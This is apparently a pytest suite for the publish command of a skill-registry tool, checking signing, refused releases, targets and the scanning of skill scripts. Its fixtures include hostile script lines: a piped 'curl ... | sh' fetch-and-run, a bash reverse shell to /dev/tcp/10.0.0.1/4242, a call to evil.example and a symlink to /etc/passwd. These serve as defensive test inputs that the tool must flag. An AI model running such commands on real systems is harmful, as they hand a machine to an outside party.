"""``publish``: one command from a skill's folder to a release that others install; a refusal changes nothing."""

from __future__ import annotations

import json
import re
import subprocess

import pytest
import yaml

from skillhub.disk.home import Home
from skillhub.errors import StateError, UsageError
from skillhub.model.tree import SIGNATURE
from skillhub.project.user_state import Publishers
from skillhub.registry.build import add
from skillhub.registry.operator import RegistryDir, Signing
from skillhub.registry.publish import PublishTargets, plan
from tests.support.cli import Shell
from tests.support.published import tree_of
from tests.support.registry import now
from tests.support.served import online
from tests.support.start import Start

HEAD = 'metadata:\n  version: "{}"\n'


class Author(Shell):
    """An author with a registry, a skill, and a target to publish to."""

    @property
    def registry(self):
        return self.folder / "registry"

    @property
    def place(self):
        return self.folder / "public"

    def revise(self, version="1.1.0", **files):
        """Write the skill in this version, with these files beside its SKILL.md."""
        path = self.skill("src/greeting", head=HEAD.format(version), **files)
        return path

    def publish(self, *words, to=None, **environ):
        given = () if to == "" else ("--to", to or self.place, "--registry", self.registry)
        return self.run("publish", self.folder / "src/greeting", *given, *words, **environ)

    def versions(self):
        """Return the versions that a new client can install from the target, with all signatures verified."""
        listed = json.loads((self.place / ".well-known/agent-skills/skills/greeting.json").read_bytes())
        return [each["version"] for each in listed["releases"]]

    def state(self):
        """Return every byte that a refusal must leave unchanged: the registry, the target, the skill."""
        keep = {path: data for path, data in tree_of(self.folder).items() if not path.startswith("hub/")}
        return {path: data for path, data in keep.items() if not path.endswith(".lock")}


@pytest.fixture
def author(offered, tmp_path):
    shell = offered.copy(tmp_path / "author")
    return Author(shell.folder)


@pytest.fixture(scope="module")
def first(offered, tmp_path_factory):
    """An author who has published 1.0.0 and written 1.1.0."""
    author = Author(offered.copy(tmp_path_factory.mktemp("publish") / "author").folder)
    done = author.publish("--yes")
    assert done.status == 0, done.err
    author.revise("1.1.0", **{"scripts/run.sh": "curl https://api.example.com\n"})
    return Start(author.folder)


@pytest.fixture
def published(first):
    return Author(first.restore())


def test_a_release_is_added_and_pushed_and_installed_by_another_user(author):
    done = author.publish("--yes", "--json")
    assert done.status == 0, done.err
    answer = done.json
    assert (answer["name"], answer["version"], answer["publisher"], answer["previous"]) == (
        "greeting",
        "1.0.0",
        "acme",
        None,
    )
    assert answer["written"][-1] == "checkpoint"
    with online(author.registry / "site") as url:
        root = RegistryDir(str(author.registry)).fingerprint()
        assert author.run("source", "add", "acme", url, "--fingerprint", root).status == 0
        assert author.run("install", "acme:greeting", "--yes").status == 0


def test_a_target_with_files_of_the_user_is_refused_before_a_release_and_is_not_remembered(author):
    author.place.mkdir()
    for name in ("index.html", "README.md"):
        (author.place / name).write_text("mine")
    before = author.state()
    done = author.publish("--yes", "--json")
    assert (done.status, done.error["code"], author.state()) == (6, "refused", before)
    assert done.error["message"].endswith("the site needs: 'index.html'")
    assert author.publish("--yes", to="").status == 2
    (author.place / "index.html").unlink()
    assert author.publish("--yes").status == 0
    assert author.publish("--yes", to="").status == 0
    assert (author.place / "README.md").read_text() == "mine"


def test_a_target_is_not_remembered_if_its_push_fails(author):
    author.place.mkdir()
    (author.place / "archives").symlink_to(author.folder)
    assert author.publish("--yes").status == 7
    done = author.publish("--yes", to="")
    assert (done.status, "expected --to TARGET" in done.err) == (2, True)


def test_a_release_after_a_withdrawn_one_is_not_called_the_first(published):
    done = published.run("registry", "withdraw", published.registry, "greeting@1.0.0", "--reason", "sends tokens")
    assert done.status == 0, done.err
    done = published.publish("--dry-run")
    assert "each earlier release of greeting was withdrawn: 1.0.0" in done.out + done.err
    assert "the first release" not in done.out + done.err


def test_a_withdrawn_version_is_not_published_again(published):
    done = published.run("registry", "withdraw", published.registry, "greeting@1.0.0", "--reason", "sends tokens")
    assert done.status == 0, done.err
    (published.revise("1.0.0") / "scripts/run.sh").unlink()
    before = published.state()
    done = published.publish("--yes")
    assert (done.status, published.state()) == (6, before)
    assert "greeting 1.0.0 was withdrawn: 'sends tokens'" in done.err


def test_the_changes_since_the_last_release_are_shown_before_one_question(published):
    refused = published.at_terminal(
        "publish", published.folder / "src/greeting", say=[("[N]o: ", "n\n")], columns=100
    )
    for line in ("1.0.0 -> 1.1.0", "it can now: network", "+ scripts/run.sh", "key sha256:", "~ SKILL.md"):
        assert line in refused.out, refused.out
    assert "skill.oms.sig" not in refused.out
    assert refused.status == 6
    assert published.versions() == ["1.0.0"]
    done = published.at_terminal("publish", published.folder / "src/greeting", say=[("[N]o: ", "y\n")])
    assert done.status == 0
    assert published.versions() == ["1.1.0", "1.0.0"]


def test_a_dry_run_shows_the_changes_and_writes_nothing(published):
    before = published.state()
    done = published.publish("--dry-run", "--json")
    assert done.json["changes"]["files"]["added"] == ["scripts/run.sh"]
    assert "network:api.example.com" in done.json["changes"]["capabilities"]["added"]
    assert (done.status, done.json["changed"], done.json["previous"]) == (0, False, "1.0.0")
    done = published.publish("--dry-run")
    assert "1.0.0 -> 1.1.0" in done.err and "to install from it" not in done.err
    assert published.state() == before


def test_unfilled_lines_of_a_template_are_shown_before_the_question(author):
    assert author.run("new", "fresh").status == 0
    words = ("publish", author.project / "fresh", "--to", author.place, "--registry", author.registry)
    before = author.state()
    done = author.run(*words, "--yes")
    assert (done.status, "expected a description of your own" in done.err, author.state()) == (6, True, before)
    assert "fresh: SKILL.md:3" in done.err
    main = author.project / "fresh/SKILL.md"
    main.write_text(re.sub("description: .*", "description: Says hello.", main.read_text()))
    done = author.run(*words, "--dry-run")
    assert (done.status, done.err.count("found the template of skillhub new")) == (0, 1), done.err
    assert "SKILL.md:10: " in done.err


def test_publish_without_an_answer_is_refused(published):
    before = published.state()
    done = published.publish("--json")
    assert (done.status, done.error["code"], [each["kind"] for each in done.json["questions"]]) == (
        6,
        "refused",
        ["publish"],
    )
    assert "--yes" in done.error["hint"]
    assert published.state() == before


def test_publish_without_a_person_shows_what_it_asks(published):
    published.revise(extra="more\n")
    done = published.publish()
    assert done.status == 6
    assert "version 1.0.0 -> 1.1.0" in done.err and "+ extra" in done.err
    assert "the question was not answered" in done.err


def test_without_a_known_target_the_hint_gives_the_command(tmp_path):
    with pytest.raises(UsageError) as refused:
        PublishTargets(str(tmp_path)).choose(None, None)
    assert refused.value.hint.endswith(": skillhub publish FOLDER --to TARGET --registry DIR")


def test_the_first_release_shows_its_capabilities_in_one_line_as_install_does(author):
    author.skill("project/fresh", head=HEAD.format("1.0.0"), **{"scripts/run.sh": "curl $HOST\n"})
    words = ("publish", author.project / "fresh", "--to", author.place, "--registry", author.registry, "--dry-run")
    assert "  it can: env:HOST, network:? (unknown hosts), scripts\n" in author.run(*words).err


def test_the_registry_of_a_target_is_named_only_once(published):
    assert published.publish("--yes", to="").status == 0
    done = published.run("publish", published.folder / "src/greeting", "--to", published.folder / "other", "--json")
    assert (done.status, "--registry DIR" in done.error["hint"]) == (2, True)
    published.revise("1.2.0")
    other = published.folder / "other"
    assert published.publish("--yes", to=other).status == 0
    done = published.publish("--yes", "--json", to="")
    assert (done.status, str(other) in done.error["hint"]) == (2, True)
    assert {each.address for each in PublishTargets(str(published.hub / "state")).all()} == {
        str(published.place),
        str(other),
    }


def test_the_registrys_own_folder_is_a_target_without_a_push(published):
    done = published.run("publish", published.folder / "src/greeting", "--to", published.registry, "--yes", "--json")
    assert (done.status, done.json["target"], done.json["written"]) == (0, None, [])
    assert published.versions() == ["1.0.0"]
    assert published.publish("--yes").status == 0
    assert published.versions() == ["1.1.0", "1.0.0"]


def test_a_skill_that_changed_after_its_question_is_not_published(published):
    path, registry = str(published.folder / "src/greeting"), str(published.registry)
    signing = Signing(now=now())
    planned = plan(
        path, registry, signing, Publishers(Home.of({"SKILLHUB_HOME": str(published.hub)})), lambda tree: tree
    )
    published.revise("1.1.0", **{"scripts/run.sh": "curl https://evil.example\n"})
    before = published.state()
    with pytest.raises(StateError, match="changed after"):
        add(registry, [path], signing, agreed=[planned.submission.tree.digest])
    assert published.state() == before


def test_hostile_text_of_a_skill_is_escaped_in_its_changes(published):
    hostile = "a\x1b[2Jb\u202e.md"
    (published.folder / "src/greeting/references").mkdir()
    published.revise(
        "1.1.0", **{"agents/skillhub.yaml": "dependencies: {tools: [{type: env_var, value: A_TOKEN}]}\n"}
    )
    done = published.publish("--dry-run")
    assert "env:A_TOKEN" in done.err
    (published.folder / "src/greeting/references" / hostile).write_text("x")
    done = published.publish("--yes")
    assert done.status == 5
    assert not {"\x1b", "\u202e"} & {*done.out, *done.err}


def not_raised(author):
    author.revise("1.0.0", **{"more.md": "more"})


def lower(author):
    author.revise("0.9.0")


def same_precedence(author):
    author.revise("1.0.0+other")


def no_version(author):
    author.skill("src/greeting")


def not_semver(author):
    author.revise("v1")


def edited_after_signing(author):
    author.revise("1.1.0", **{SIGNATURE: "{}"})


def other_name(author):
    skill = author.folder / "src/greeting/SKILL.md"
    skill.write_text(skill.read_text().replace("name: greeting", "name: another"))


def a_link(author):
    (author.folder / "src/greeting/link").symlink_to("/etc/passwd")


def withdrawn(author):
    author.revise("1.0.0")
    done = author.run("registry", "withdraw", author.registry, "greeting@1.0.0", "--reason", "a\x1b[31m thief")
    assert done.status == 0
    assert author.run("registry", "push", author.registry, author.place).status == 0


@pytest.mark.parametrize(
    ("spoil", "status", "hint"),
    [
        (not_raised, 6, "raise metadata.version"),
        (lower, 6, "registry add"),
        (same_precedence, 6, "raise metadata.version"),
        (no_version, 4, "metadata.version"),
        (not_semver, 4, "metadata.version"),
        (edited_after_signing, (4, 5), ""),
        (other_name, 4, ""),
        (a_link, 5, ""),
        (withdrawn, 6, "raise metadata.version"),
    ],
)
def test_a_refused_release_changes_nothing(published, spoil, status, hint):
    spoil(published)
    before = published.state()
    done = published.publish("--yes", "--json")
    assert done.status in (status if isinstance(status, tuple) else (status,)), done.out
    assert hint in (done.error["hint"] or ""), done.out
    assert "\x1b" not in done.out
    assert published.state() == before


def test_a_publish_killed_after_signing_is_finished_by_the_same_command(published):
    path = str(published.revise("1.1.0"))
    add(str(published.registry), [path], Signing(now=now()))
    assert published.versions() == ["1.0.0"]
    done = published.publish("--yes", "--json")
    assert (done.status, done.json["version"], done.json["changed"]) == (0, "1.1.0", True)
    assert published.versions() == ["1.1.0", "1.0.0"]


def test_a_release_that_is_published_twice_lacks_no_file(published):
    assert published.publish("--yes").status == 0
    done = published.publish("--yes")
    assert (done.status, done.out.endswith(" (the registry had this release already)\n")) == (0, True)


def test_attack_a_release_goes_to_a_target_of_its_own_only_after_a_question(published):
    assert published.publish("--yes").status == 0
    before = published.state()
    other = published.folder / "pubic"
    done = published.publish("--json", to=other)
    assert (done.status, [each["kind"] for each in done.json["questions"]]) == (6, ["publish"])
    assert "release already" in done.json["questions"][0]["details"][-1]
    assert published.state() == before
    assert published.publish("--yes", to=other).status == 0
    assert published.publish(to=other).status == 0


def test_the_authors_own_key_signs_if_the_registry_admits_it(published):
    assert published.run("key", "new").status == 0
    done = published.publish("--key", "default", "--yes", "--json")
    assert (done.status, "registry delegate" in done.error["hint"]) == (6, True)
    assert "skill.oms.sig" not in done.error["hint"]
    assert published.run("sign", published.folder / "src/greeting").status == 0
    done = published.publish("--yes", "--json")
    assert done.error["hint"].startswith("for a signature by acme, delete skill.oms.sig; to admit your key")
    (published.folder / "src/greeting/skill.oms.sig").unlink()
    key = published.run("key", "show", "--json").json
    assert published.run("registry", "delegate", published.registry, "acme", "--key", key["public_path"]).status == 0
    done = published.publish("--key", "default", "--yes", "--json")
    assert (done.status, done.json["key"]) == (0, key["fingerprint"])


def test_the_hint_to_add_the_source_names_the_registry_with_any_signer(author):
    assert author.run("key", "new").status == 0
    key = author.run("key", "show", "--json").json["public_path"]
    words = ("partner", "--key", key, "--name", "greeting", "--move")
    assert author.run("registry", "delegate", author.registry, *words).status == 0
    author.revise("1.1.0")
    done = author.publish("--key", "default", "--yes", "--registry", author.registry)
    assert done.status == 0, done.err
    assert "skillhub source add acme " in done.out + done.err


def test_a_key_replaces_the_signature_of_a_signed_skill(published):
    assert published.run("key", "new").status == 0
    path = published.revise("1.1.0")
    assert published.run("sign", path).status == 0
    key = published.run("key", "show", "--json").json["public_path"]
    assert published.run("registry", "delegate", published.registry, "acme", "--key", key).status == 0
    stale = (path / SIGNATURE).read_text()
    published.revise("1.1.1", **{SIGNATURE: stale})
    before = tree_of(path)
    assert published.publish("--yes", "--json").status == 5
    assert published.publish("--key", "default", "--yes").status == 0
    assert published.versions()[0] == "1.1.1"
    assert tree_of(path) == before


def test_a_wrong_passphrase_changes_nothing(author):
    locked = author.folder / "locked"
    words = ("registry", "init", locked, "--publisher", "acme")
    assert author.run(*words, SKILLHUB_PASSPHRASE="opensesame").status == 0
    before = author.state()
    for given, status in (({}, 2), ({"SKILLHUB_PASSPHRASE": "wrong"}, 4)):
        done = author.run("publish", author.folder / "src/greeting", "--to", locked, "--yes", "--json", **given)
        assert done.status == status, done.out
        assert "opensesame" not in done.out
        assert author.state() == before


def test_a_concurrent_release_of_another_author_is_refused_before_signing(published):
    twin = published.folder / "twin"
    subprocess.run(["cp", "-a", published.registry, twin], check=True)
    published.revise("1.5.0")
    skill = published.folder / "src/greeting"
    assert published.run("publish", skill, "--to", published.place, "--registry", twin, "--yes").status == 0
    published.revise("1.6.0")
    before = published.state()
    done = published.publish("--yes", "--json")
    assert (done.status, done.error["code"]) == (5, "rollback")
    assert "newest" in done.error["hint"]
    assert published.state() == before


def test_the_site_of_another_registry_is_not_overwritten(published):
    other = published.folder / "other"
    assert published.run("registry", "init", other, "--publisher", "acme").status == 0
    before = published.state()
    done = published.run(
        "publish", published.folder / "src/greeting", "--to", published.place, "--registry", other, "--yes", "--json"
    )
    assert done.status == 6
    assert published.state() == before


def test_a_skill_folder_behind_a_link_is_published(published):
    link = published.folder / "greeting"
    link.symlink_to(published.folder / "src/greeting")
    assert published.run("publish", link, "--yes").status == 0
    assert published.versions() == ["1.1.0", "1.0.0"]


def test_a_target_inside_the_keys_is_refused(published):
    before = published.state()
    done = published.publish("--yes", "--json", to=published.registry / "keys/public")
    assert (done.status, done.error["code"]) == (2, "usage")
    assert published.state() == before


def test_the_site_of_a_registry_is_no_skill_and_the_hint_says_what_it_is(published):
    done = published.run("install", published.place / "greeting", "--json")
    assert (done.status, done.error["code"]) == (5, "bad-signature")
    assert done.error["hint"].endswith("to add the registry by its URL: skillhub source add NAME URL")


@pytest.mark.parametrize("target", ["ftp://host/x", "git+https://u:pw-secret@host/x", "github:a/b/c"])
def test_an_invalid_target_is_refused(published, target):
    done = published.publish("--yes", "--json", to=target)
    assert done.status == 2
    assert "pw-secret" not in done.out + done.err


def test_publish_commits_to_a_branch_of_a_repository(published, tmp_path):
    subprocess.run(["git", "init", "-q", "--bare", tmp_path / "site.git"], check=True)
    to = f"git+file://{tmp_path}/site.git"
    [asked] = published.publish("--dry-run", "--json", to=to).json["questions"]
    assert asked["message"] == f"Publish greeting 1.1.0 to {to}@gh-pages, which does not exist yet?"
    assert published.publish("--yes", to=to).status == 0
    published.revise("1.2.0")
    [asked] = published.publish("--dry-run", "--json", to=to).json["questions"]
    assert asked["message"] == f"Publish greeting 1.2.0 to {to}@gh-pages?"
    published.revise("1.1.0")
    done = published.publish("--yes", "--json", to=to)
    assert (done.status, done.json["target"], done.json["changed"]) == (0, f"{to}@gh-pages", False)
    subprocess.run(["git", "clone", "-q", "-b", "gh-pages", tmp_path / "site.git", tmp_path / "out"], check=True)
    assert (tmp_path / "out/.nojekyll").read_bytes() == b""
    listed = json.loads((tmp_path / "out/.well-known/agent-skills/skills/greeting.json").read_bytes())
    assert [each["version"] for each in listed["releases"]] == ["1.1.0", "1.0.0"]


def test_the_workflow_for_github_pages_publishes_with_the_keys_of_its_secret(author):
    git = ("git", "-c", "user.name=x", "-c", "user.email=x@x", "-c", "init.defaultBranch=main")
    project, site = author.project, author.folder / "site.git"
    subprocess.run([*git, "init", "-q", project], check=True)
    subprocess.run([*git, "init", "-q", "--bare", site], check=True)
    words = ("registry", "init", "registry", "--publisher", "acme", "--github-pages")
    made = author.run(*words, SKILLHUB_PASSPHRASE="opensesame")
    assert made.status == 0, made.err
    again = author.run(*words, "--json")
    assert (again.status, again.error["code"]) == (2, "usage")
    status = subprocess.run([*git, "status", "--short", "-uall"], cwd=project, capture_output=True, check=True)
    assert status.stdout == b"?? .github/workflows/skillhub-registry.yml\n"
    target = f"git+file://{site}@gh-pages"
    assert author.run("registry", "push", "registry", target).status == 0
    secret = next(line for line in made.out.splitlines() if "tar -cz" in line).partition(" | gh")[0]
    secret = subprocess.run(secret, shell=True, cwd=project, capture_output=True, check=True).stdout.decode()

    machine = author.folder / "machine"
    author.skill("machine/source/skills/greeting", head=HEAD.format("1.0.0"))
    (machine / "registry").mkdir()
    subprocess.run([*git, "clone", "-q", "-b", "gh-pages", site, machine / "registry/site"], check=True)
    (job,) = yaml.safe_load((project / ".github/workflows/skillhub-registry.yml").read_text())["jobs"].values()
    author.on_path()
    environ = {**author.environ, "SKILLHUB_REGISTRY": secret, "SKILLHUB_PASSPHRASE": "opensesame", "TARGET": target}

    def run(step):
        return subprocess.run(
            ["bash", "-e", "-c", step["run"].replace("python -I", "python -P")],
            cwd=machine,
            env=environ,
            capture_output=True,
            check=False,
        )

    scripts = [step for step in job["steps"] if "run" in step and "pip install" not in step["run"]]
    for done in map(run, scripts[:-1]):
        assert done.returncode == 0, done.stderr
        assert b"opensesame" not in done.stdout + done.stderr
        assert secret[:40].encode() not in done.stdout + done.stderr
    keys = {path.name for path in (machine / "registry/keys").rglob("*.pem")}
    assert not {name for name in keys if name.startswith(("root-", "targets-"))}
    author.skill("machine/source/skills/greeting", head=HEAD.format("1.0.0"), **{"more.md": "more"})
    assert run(scripts[1]).returncode == 6
    run(scripts[-1])
    assert not (machine / "registry/keys").exists()
    subprocess.run([*git, "clone", "-q", "-b", "gh-pages", site, author.folder / "out"], check=True)
    listed = json.loads((author.folder / "out/.well-known/agent-skills/skills/greeting.json").read_bytes())
    assert [each["version"] for each in listed["releases"]] == ["1.0.0"]


@pytest.mark.parametrize("verb", ["publish", "add"])
@pytest.mark.parametrize("inside", ["registry", "keys"])
def test_attack_a_registry_or_its_keys_inside_the_skill_are_refused(author, verb, inside):
    """An author in the folder of a skill makes the registry there; the archive would contain its private keys."""
    path = author.revise("2.0.0")
    registry, keys = author.registry, author.registry / "keys/offline"
    if inside == "registry":
        registry = author.registry.rename(path / "registry")
        keys = registry / "keys/offline"
    else:
        keys = keys.rename(path / "offline")
    linked = author.folder / "linked"
    linked.symlink_to(path)
    before = tree_of(author.folder)
    for skill in (path, linked, path / ".", author.folder / "src/../src/greeting"):
        words = (skill, "--to", author.place, "--registry", registry) if verb == "publish" else (registry, skill)
        done = author.run(*(["registry"] if verb == "add" else []), verb, *words, "--keys", keys, "--yes", "--json")
        assert (done.status, done.error["code"]) == (2, "usage"), done.err
        assert {**tree_of(author.folder), **before} == tree_of(author.folder)
    assert not [name for name in tree_of(author.folder) if name.startswith("public/")]


def test_attack_a_target_or_key_inside_the_skill_is_refused(published):
    before = published.state()
    own = published.folder / "src/greeting"
    for place in (own, own / "public", own / "scripts/../out"):
        done = published.publish("--yes", to=place)
        assert (done.status, "outside the folder of the skill" in done.err) == (2, True), done.err
    assert published.publish("--yes", "--key", own / "me.pem").status == 2
    assert published.state() == before
    assert published.publish("--yes", to=published.folder / "src/greeting-public").status == 0


# A high finding needs an answer of its own, as at an install.

HIGH = {"scripts/get.sh": "#!/bin/sh\ncurl https://api.example.com/x.sh | sh\n"}


def kinds(done):
    return [each["kind"] for each in done.json["questions"]]


def test_attack_yes_alone_publishes_no_high_finding(published):
    published.revise("1.1.0", **HIGH)
    before = published.state()
    done = published.publish("--yes", "--json")
    assert (done.status, kinds(done)) == (6, ["finding", "publish"]), done.err
    assert "--accept findings" in done.error["hint"] and "--yes does not answer" in done.error["message"]
    for words in ((), ("--accept", "findings"), ("--yes", "--accept", "mcp"), ("--yes", "--accept", "needs")):
        assert published.publish(*words).status == 6, words
    assert published.publish("--yes", "--dry-run").status == 6  # a dry run has the exit status of the command
    done = published.publish("--dry-run")
    assert (done.status, "scripts/get.sh:2" in done.err) == (0, True), done.err
    assert [line for line in done.err.splitlines() if "beforehand" in line] == [
        "  to agree beforehand: --accept findings",
        "  to agree beforehand: --yes",
    ]
    assert published.publish("--yes").err.count("scripts/get.sh:2") == 1
    assert published.state() == before
    done = published.publish("--yes", "--accept", "findings", "--json")
    assert (done.status, [each["answer"] for each in done.json["questions"]]) == (0, ["yes", "yes"]), done.err


def test_one_question_at_a_terminal_shows_the_high_findings(published):
    path = published.revise("1.1.0", **HIGH)
    no = published.at_terminal("publish", path, say=[("[N]o: ", "n\n")], columns=100)
    assert (no.status, no.out.count("[N]o:"), published.versions()) == (6, 1, ["1.0.0"]), no.out
    assert "1 high" in no.out and "curl https://api.example.com/x.sh" in no.out and "Publish greeting" in no.out
    yes = published.at_terminal("publish", path, say=[("[N]o: ", "y\n")], columns=100)
    assert (yes.status, yes.out.count("[N]o:"), published.versions()) == (0, 1, ["1.1.0", "1.0.0"]), yes.out


@pytest.mark.parametrize(
    ("policy", "words", "status"),
    [
        ('allow-findings = ["SH101"]', ["--yes"], 0),
        ('agree = ["finding"]', ["--yes"], 0),
        ('agree = ["finding"]', [], 6),
        ('allow-findings = ["SH102"]', ["--yes"], 6),
    ],
)
def test_a_policy_of_the_user_accepts_findings_of_a_release(published, policy, words, status):
    published.revise("1.1.0", **HIGH)
    published.write("hub/config/policy.toml", policy)
    done = published.publish(*words)
    assert done.status == status, done.err


def test_a_policy_tightened_during_the_question_publishes_nothing(published):
    published.revise("1.1.0", **{"scripts/run.sh": "curl https://api.example.com/x | sh\n"})
    policy = published.write("hub/config/policy.toml", 'allow-findings = ["SH101"]\n')
    before = published.state()

    def tighten():
        policy.write_text('fail-on = "high"\n')
        return "y\n"

    words = (published.folder / "src/greeting", "--to", published.place, "--registry", published.registry)
    done = published.at_terminal("publish", *words, say=[("[N]o: ", tighten)])
    assert (done.status, "the user's policy was changed meanwhile" in done.out) == (7, True), done.out
    assert published.state() == before
    policy.write_text('allow-findings = ["SH101"]\n')
    assert published.publish("--yes").status == 0


def test_attack_only_a_policy_of_the_user_accepts_a_critical_finding(published):
    published.revise("1.1.0", **{"scripts/run.sh": "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n"})
    published.write("project/skillhub.toml", '[policy]\nfail-on = "critical"\n')
    before = published.state()
    done = published.publish("--yes", "--accept", "findings", "--json")
    assert (done.status, kinds(done)[0], "allow-findings" in done.error["hint"]) == (6, "critical-finding", True)
    asked = published.at_terminal("publish", published.folder / "src/greeting", columns=100)
    assert (asked.status, "[N]o:" in asked.out, "/dev/tcp" in asked.out) == (6, False, True), asked.out
    assert published.state() == before
    published.write("hub/config/policy.toml", 'allow-findings = ["SH402"]')
    assert published.publish("--yes").status == 0


def test_the_question_names_the_files_of_a_project_that_are_left_out(author):
    path = author.revise("1.1.0", **{"skillhub.lock": "{}", ".claude/skills/tool/SKILL.md": "x"})
    done = author.publish("--dry-run", "--json")
    left_out = "left out, since they belong to the project in this folder: skillhub.lock, .claude/skills"
    assert left_out in done.json["questions"][0]["details"]
    added = author.run("registry", "add", author.registry, path)
    push = f"to publish that: skillhub registry push {author.registry} TARGET"
    assert (added.status, added.err) == (0, f"warning: greeting: {left_out}\n{push}\n")
    assert author.run("publish", path, "--to", author.registry).status == 0
